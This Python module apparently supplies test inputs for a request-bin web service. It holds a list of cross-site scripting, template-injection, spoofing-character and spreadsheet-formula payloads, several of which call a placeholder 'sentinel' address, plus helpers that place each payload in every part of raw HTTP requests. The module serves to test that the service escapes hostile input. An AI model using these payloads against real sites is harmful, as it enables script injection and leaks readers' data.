"""What somebody would send who wants to run something in the reader's browser, and every place to put it in."""

from __future__ import annotations

import base64
import gzip
import json
import string
from collections.abc import Iterator
from urllib.parse import quote

SENTINEL = "__SENTINEL__"
"""Stands for the address that nobody must ask for."""

PAYLOADS = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<script src=__SENTINEL__></script>",
    "<img src=x onerror=pwned()>",
    "<img src=__SENTINEL__ srcset=__SENTINEL__>",
    '"><svg/onload=pwned()>',
    "'><svg onload=pwned()//",
    "<svg><script href=__SENTINEL__></script><use href=__SENTINEL__#a>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<iframe src=__SENTINEL__></iframe>",
    "<object data=__SENTINEL__></object><embed src=__SENTINEL__>",
    "<link rel=stylesheet href=__SENTINEL__>",
    "<style>@import'__SENTINEL__';body{display:none}</style>",
    "<base href=__SENTINEL__>",
    "<meta http-equiv=refresh content='0;url=__SENTINEL__'>",
    "<form action=__SENTINEL__><button autofocus onfocus=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video src=__SENTINEL__ onerror=pwned()><audio src=__SENTINEL__ autoplay>",
    "<a href=javascript:pwned() autofocus>x</a>",
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "__SENTINEL__",
    "</textarea></title></pre></style></table><img src=x onerror=pwned()>",
    "--><!--><img src=x onerror=pwned()>",
    "]]><math><mtext><img src=x onerror=pwned()></math>",
    '" autofocus onfocus=pwned() x="',
    "' onmouseover='pwned()' style='background:url(__SENTINEL__)' x='",
    "` onclick=`pwned()` accesskey=x",
    "{{7*7}}{% include 'bins/_keys.html' %}{{ csrf_token }}",
    "${pwned()}#{pwned()}<%= pwned() %>",
    "&lt;img src=x onerror=pwned()&gt;&#60;svg onload=pwned()&#62;",
    "\\u003cimg src=x onerror=pwned()\\u003e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
    "<live-feed socket=__SENTINEL__ rows=__SENTINEL__ after=0><span data-label></live-feed>",
    "<li class=row data-n=1 is=x><a class=row-link href=__SENTINEL__ data-older=1>",
    "\u202egnp.exe\u200b\u2066\ufeff\U000e0041",
    "=HYPERLINK('__SENTINEL__');fetch('__SENTINEL__')//",
    "\xff\x80<img src=x onerror=pwned()>\u2028pwned()",
)

_NAME = set(string.ascii_letters + string.digits + "!#$%&'*+-.^_`|~")
"""What RFC 9110, 5.6.2 lets a field name hold."""
_KINDS = (
    *("text/html", "image/svg+xml", "text/xml", "application/xml", "text/plain", "image/png", "application/pdf"),
    *("text/css", "application/javascript", "application/x-ndjson", "text/event-stream", "multipart/related"),
)


def payloads(sentinel: str) -> list[str]:
    """Give every payload, calling home to the address `sentinel`."""
    return [payload.replace(SENTINEL, sentinel) for payload in PAYLOADS]


def hostile_requests(bin_id: str, sentinel: str) -> Iterator[bytes]:
    """Give requests as they go over the wire: one for each payload, then some with all of them."""
    chosen = payloads(sentinel)
    for payload in chosen:
        yield _everywhere(bin_id, payload)
    together = "\n".join(chosen).encode() + b"\0"
    for kind in _KINDS:
        yield _request(bin_id, "/body", [("Content-Type", kind)], together)
    pairs = json.dumps(
        {**{payload: payload for payload in chosen}, "deep": [{payload: [payload]} for payload in chosen]}
    )
    words = "&".join(f"{quote(payload)}={quote(payload)}" for payload in chosen)
    plain, form = [("Content-Type", "application/json")], [("Content-Type", "application/x-www-form-urlencoded")]
    yield _request(bin_id, "/json", plain, pairs.encode())
    yield _request(bin_id, "/json", plain, json.dumps(chosen, ensure_ascii=False).encode() + b"<wrong")
    yield _request(bin_id, "/gzip", [*plain, ("Content-Encoding", "gzip")], gzip.compress(pairs.encode()))
    yield _request(bin_id, "/form", form, words.encode())
    yield _request(bin_id, "/form", form, together)
    yield _request(bin_id, "/parts", [("Content-Type", "multipart/form-data; boundary=XX")], _parts(chosen))
    yield _request(bin_id, "/fields", [(f"X-{_name(payload)}", payload) for payload in chosen], b"")
    yield _request(bin_id, "/cookies", [("Cookie", f"{_name(payload)}={payload}") for payload in chosen], b"")


def _everywhere(bin_id: str, payload: str) -> bytes:
    """One payload in every place of a request's head, and as its body."""
    word = quote(payload, safe=string.punctuation)
    basic = base64.b64encode(f"{payload}:{payload}".encode()).decode()
    claims = base64.urlsafe_b64encode(json.dumps({"alg": payload, payload: payload}).encode()).decode().rstrip("=")
    fields = [
        *[(name, payload) for name in ("User-Agent", "X-GitHub-Event", "Content-Type", "Referer", "X-Forwarded-For")],
        *[(name, payload) for name in ("Forwarded", "Via", "X-Forwarded-Host", "Origin", "Stripe-Signature", "Date")],
        (f"X-{_name(payload)}", payload),
        ("Cookie", f"a={payload}; {payload}=b"),
        ("Set-Cookie", f"{payload}={payload}"),
        ("Authorization", f"Basic {basic}"),
        ("Authorization", f"Bearer {claims}.{claims}.{payload}"),
    ]
    return _request(bin_id, f"/{word}?{word}={word}&{word}", fields, payload.encode() + b"\0" + payload.encode())


def _request(bin_id: str, rest: str, fields: list[tuple[str, str]], body: bytes) -> bytes:
    lines = [f"POST /{bin_id}{rest} HTTP/1.1", "Host: x", f"Content-Length: {len(body)}"]
    lines += [f"{name}: {value}" for name, value in fields]
    return "\r\n".join([*lines, "", ""]).encode() + body


def _parts(chosen: list[str]) -> bytes:
    parts = b""
    for payload in chosen:
        quoted = payload.replace('"', "%22")
        parts += f'--XX\r\nContent-Disposition: form-data; name="{quoted}"; filename="{quoted}"\r\n'.encode()
        parts += f"Content-Type: {payload}\r\nX-Part: {payload}\r\n\r\n{payload}\r\n".encode()
    return parts + b"--XX--\r\n"


def _name(payload: str) -> str:
    return "".join(character for character in payload if character in _NAME) or "x"
